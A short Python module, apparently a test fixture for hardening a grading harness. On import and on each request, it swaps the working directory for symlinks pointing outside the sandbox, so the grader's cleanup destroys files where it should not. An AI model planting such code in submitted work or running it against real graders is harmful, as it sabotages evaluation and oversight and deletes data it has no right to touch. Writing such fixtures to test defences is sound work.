"""Attack: have the grader clean up where it should not."""

import contextlib
import os
from pathlib import Path

from fastapi import FastAPI

from .targets import OUTSIDE, acted

app = FastAPI()


def swap():
    work = Path.cwd()
    with contextlib.suppress(OSError):
        for path in (work / "inner", work):  # or the second would be planted in OUTSIDE
            moved = path.with_name(f"moved-{os.getpid()}")
            with contextlib.suppress(OSError):
                path.rename(moved)
            path.symlink_to(OUTSIDE)


acted("import")
swap()


@app.get("/{path:path}")
async def answer(path: str):
    acted("request")
    swap()
